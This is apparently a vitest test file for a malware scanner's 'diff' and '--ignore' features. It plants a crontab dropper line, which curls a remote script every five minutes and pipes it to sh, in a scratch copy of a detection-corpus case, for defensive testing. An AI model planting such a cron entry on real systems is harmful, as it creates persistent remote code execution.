/**
 * --ignore and `minescan diff` on reports of the detection corpus (the shared fixture),
 * through the command line. A copy of the cron-python-dropper case is changed the way
 * a server changes between two weekly audits: lines added above the malicious cron
 * entry (which must not make it look new), a second dropper line added, the crontab
 * removed. Ignore entries that hold, that expired, and files that are malformed.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type * as Sarif from 'sarif';
import { cli } from '../helpers/run-cli.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { corpusCase } from '../helpers/corpus-reports.js';
import type { ScanReport } from '../../src/model/report.js';
import type { AuditDiff } from '../../src/report/diff.js';
import { rowFromReport } from '../../src/fleet/summary.js';

const run = promisify(execFile);
const CRONTAB = 'var/spool/cron/crontabs/root';
const DROPPER_RULE = 'command.interpreter-download-and-run';
const NEW_LINE = '*/5 * * * * curl -fsSL http://198.51.100.7/x.sh | sh\n';

let scratch: string;
let root: string;
/** Reports of the copy: as built, lines added above the entry, a dropper line added too, the crontab removed. */
const audits = { base: '', shifted: '', added: '', removed: '' };

async function scanTo(name: string, extra: string[] = []): Promise<string> {
  const out = path.join(scratch, `${name}.json`);
  const { code, stderr } = await cli(['scan', root, '--format', 'json', '--output', out, '--fail-on', 'none', '--no-bundled-hashes', ...extra]);
  expect(code, stderr).toBe(0);
  return out;
}

const read = async (file: string): Promise<ScanReport> => JSON.parse(await readFile(file, 'utf8'));

async function writeIgnore(name: string, text: string): Promise<string> {
  const file = path.join(scratch, name);
  await writeFile(file, text);
  return file;
}

async function diff(...args: string[]): Promise<{ code: number; diff: AuditDiff; stderr: string }> {
  const { code, stdout, stderr } = await cli(['diff', '--format', 'json', ...args]);
  return { code, diff: code === 2 ? (undefined as unknown as AuditDiff) : JSON.parse(stdout), stderr };
}

beforeAll(async () => {
  scratch = await makeScratchDir('minescan-diff-');
  root = path.join(scratch, 'root');
  // A real copy, never hard links: the corpus is shared, and what a test writes must not reach it.
  await run('cp', ['-a', corpusCase('cron-python-dropper'), root]);
  const crontab = path.join(root, CRONTAB);
  const original = await readFile(crontab, 'utf8');
  audits.base = await scanTo('base');
  await rm(crontab);
  const shifted = `# m h dom mon dow command\n# edited by the backup role\n15 3 * * * /usr/bin/true\n${original}`;
  await writeFile(crontab, shifted, { mode: 0o600 });
  audits.shifted = await scanTo('shifted');
  await rm(crontab);
  await writeFile(crontab, `${shifted}${NEW_LINE}`, { mode: 0o600 });
  audits.added = await scanTo('added');
  await rm(crontab);
  audits.removed = await scanTo('removed');
  // The --ignore tests scan the tree as the shifted audit saw it.
  await writeFile(crontab, shifted, { mode: 0o600 });
}, 900_000);

afterAll(async () => {
  if (scratch) await removeScratchDir(scratch);
});

describe('minescan diff', () => {
  it('matches a finding whose line moved: nothing new, nothing resolved', async () => {
    const [before, after] = [await read(audits.base), await read(audits.shifted)];
    const was = before.findings.find((f) => f.rule === DROPPER_RULE)!;
    const now = after.findings.find((f) => f.rule === DROPPER_RULE)!;
    expect(now.line).toBe(was.line! + 3);
    const { code, diff: d } = await diff(audits.base, audits.shifted);
    expect(code).toBe(0);
    expect(d.totals).toEqual({ new: 0, resolved: 0, unsuppressed: 0, unchanged: before.findings.length });
  });

  it('lists a finding added as new, and exits 1 at --fail-on high', async () => {
    const { code, diff: d } = await diff(audits.shifted, audits.added, '--fail-on', 'high');
    expect(code).toBe(1);
    expect(d.totals.resolved).toBe(0);
    expect(d.targets[0]!.new.map((f) => [f.path, f.line])).toContainEqual(['/' + CRONTAB, 5]);
    expect(d.targets[0]!.new.every((f) => f.fingerprint.length === 64)).toBe(true);
    // Below the threshold nothing pages anyone.
    expect((await diff(audits.shifted, audits.added, '--fail-on', 'critical')).code).toBe(0);
    const text = await cli(['diff', '--format', 'text', audits.shifted, audits.added]);
    expect(text.stdout).toMatch(/NEW\s+HIGH\s+\/var\/spool\/cron\/crontabs\/root:5/);
  });

  it('lists a finding whose file was removed as resolved, and exits 0', async () => {
    const { code, diff: d } = await diff(audits.base, audits.removed);
    expect(code).toBe(0);
    expect(d.totals.new).toBe(0);
    expect(d.targets[0]!.resolved.map((f) => f.rule)).toContain(DROPPER_RULE);
  });

  it('compares two fleet output directories instance by instance', async () => {
    const week = async (name: string, report: string) => {
      const dir = path.join(scratch, name);
      await mkdir(path.join(dir, 'eu-west-1'), { recursive: true });
      await writeFile(path.join(dir, 'eu-west-1', 'i-0a.json'), await readFile(report));
      await writeFile(path.join(dir, 'eu-west-1', 'i-0b.json'), await readFile(audits.base));
      await writeFile(path.join(dir, 'summary.json'), '{}');
      return dir;
    };
    const { code, diff: d } = await diff(await week('week1', audits.base), await week('week2', audits.added));
    expect(code).toBe(1);
    expect(d.targets.map((t) => [t.target, t.new.length > 0])).toEqual([
      ['eu-west-1/i-0a', true],
      ['eu-west-1/i-0b', false],
    ]);
  });

  it('applies --ignore to both audits: a live entry keeps a new finding quiet, an expired one does not', async () => {
    const entry = (expires: string) => `ignore:\n  - rule: "command.*"\n    path: /var/spool/cron/crontabs/*\n    reason: the vendor's updater, ticket 42\n    expires: ${expires}\n`;
    const live = await writeIgnore('live.yaml', entry('2999-12-31'));
    const quiet = await diff(audits.shifted, audits.added, '--ignore', live);
    expect(quiet.code).toBe(0);
    expect(quiet.diff.targets[0]!.new.every((f) => f.suppressed?.reason === "the vendor's updater, ticket 42")).toBe(true);
    const expired = await writeIgnore('expired.yaml', entry('2020-01-01'));
    const loud = await diff(audits.shifted, audits.added, '--ignore', expired);
    expect(loud.code).toBe(1);
    expect(loud.diff.targets[0]!.new.some((f) => f.suppressed)).toBe(false);
  });

  it('reports a finding accepted last week whose entry has since expired as no longer suppressed', async () => {
    const ignore = (expires: string) => writeIgnore(`dropper-${expires}.yaml`, `ignore:\n  - rule: ${DROPPER_RULE}\n    path: /${CRONTAB}\n    reason: accepted until the server is rebuilt\n    expires: ${expires}\n`);
    const lastWeek = await scanTo('last-week', ['--ignore', await ignore('2999-12-31')]);
    const thisWeek = await scanTo('this-week', ['--ignore', await ignore('2020-01-01')]);
    const { code, diff: d } = await diff(lastWeek, thisWeek);
    expect(code).toBe(1);
    expect(d.totals.new).toBe(0);
    expect(d.targets[0]!.unsuppressed.map((f) => f.rule)).toEqual([DROPPER_RULE]);
  });

  it('refuses inputs that are not reports with exit 2, naming the file', async () => {
    const notJson = await writeIgnore('not-json.json', '{"target": "/x", "findings": [');
    const notReport = await writeIgnore('not-report.json', '{"hello": "world"}');
    const badFinding = await writeIgnore('bad-finding.json', '{"target": "/x", "findings": [{"rule": "r"}]}');
    for (const file of [notJson, notReport, badFinding]) {
      const { code, stderr } = await cli(['diff', audits.base, file]);
      expect(code).toBe(2);
      expect(stderr).toContain(file);
    }
    expect((await cli(['diff', audits.base, path.join(scratch, 'missing.json')])).code).toBe(2);
  });
});

describe('minescan scan --ignore', () => {
  it('keeps an accepted finding in JSON, SARIF and text, marked suppressed with the reason, and fails nothing', async () => {
    const ignore = await writeIgnore('accept.yaml', `# accepted findings\nignore:\n  - rule: ${DROPPER_RULE}\n    path: /var/spool/cron/**\n    target: "${root}"\n    reason: lab machine, INC-7\n`);
    const fails = await cli(['scan', root, '--format', 'json', '--no-bundled-hashes']);
    expect(fails.code).toBe(1);
    const json = await cli(['scan', root, '--format', 'json', '--no-bundled-hashes', '--ignore', ignore]);
    expect(json.code).toBe(0);
    const report = JSON.parse(json.stdout) as ScanReport;
    const accepted = report.findings.filter((f) => f.suppressed);
    expect(accepted.map((f) => f.rule)).toEqual([DROPPER_RULE]);
    expect(accepted[0]!.suppressed).toEqual({ reason: 'lab machine, INC-7', entry: `${ignore}:3` });
    expect(report.suppressions).toEqual({ file: ignore, suppressed: 1, expired: [] });
    // The fleet's verdict ignores it too.
    expect(rowFromReport('i-1', 'eu-west-1', report, 'x.json').verdict).toBe('none');

    const sarif = JSON.parse((await cli(['scan', root, '--format', 'sarif', '--no-bundled-hashes', '--ignore', ignore])).stdout) as Sarif.Log;
    const suppressed = sarif.runs[0]!.results!.filter((r) => r.suppressions?.length);
    expect(suppressed.map((r) => r.ruleId)).toEqual([DROPPER_RULE]);
    expect(suppressed[0]!.suppressions![0]).toMatchObject({ kind: 'external', status: 'accepted', justification: 'lab machine, INC-7' });

    const text = await cli(['scan', root, '--format', 'text', '--no-bundled-hashes', '--ignore', ignore]);
    expect(text.stdout).toContain(`SUPPRESSED by ${ignore}:3: lab machine, INC-7`);
  });

  it('does not apply an entry meant for another target', async () => {
    const ignore = await writeIgnore('elsewhere.yaml', `ignore:\n  - rule: ${DROPPER_RULE}\n    path: /${CRONTAB}\n    target: /mnt/other\n    reason: another server\n`);
    expect((await cli(['scan', root, '--format', 'json', '--no-bundled-hashes', '--ignore', ignore])).code).toBe(1);
  });

  it('reports an expired entry, which suppresses nothing', async () => {
    const ignore = await writeIgnore('old.yaml', `ignore:\n  - rule: ${DROPPER_RULE}\n    path: /${CRONTAB}\n    reason: accepted for the migration\n    expires: 2021-03-31\n`);
    const { code, stdout, stderr } = await cli(['scan', root, '--format', 'json', '--no-bundled-hashes', '--ignore', ignore]);
    expect(code).toBe(1);
    expect(stderr).toContain(`ignore entry ${ignore}:2 (${DROPPER_RULE} on /${CRONTAB}) expired on 2021-03-31`);
    const report = JSON.parse(stdout) as ScanReport;
    expect(report.findings.some((f) => f.suppressed)).toBe(false);
    expect(report.suppressions!.expired).toEqual([{ entry: `${ignore}:2`, rule: DROPPER_RULE, path: `/${CRONTAB}`, reason: 'accepted for the migration', expires: '2021-03-31', findings: 1 }]);
  });

  it('refuses a malformed file with exit 2, naming the file and the line', async () => {
    const cases: Array<[string, number]> = [
      [`ignore:\n  - rule: ${DROPPER_RULE}\n    path: /x\n`, 2],
      [`ignore:\n  - rule: ${DROPPER_RULE}\n    path: /x\n    reason: r\n    expires: next week\n`, 5],
      [`ignore:\n  - rule: r\n    path: /x\n    reason: r\n    owner: me\n`, 5],
      [`ignore:\n  - rule: r\n    path: /x\n   reason: [\n`, 4],
    ];
    for (const [i, [text, line]] of cases.entries()) {
      const file = await writeIgnore(`bad-${i}.yaml`, text);
      const { code, stderr } = await cli(['scan', root, '--ignore', file]);
      expect(code, stderr).toBe(2);
      expect(stderr).toContain(`${file}:${line}:`);
    }
  });
});
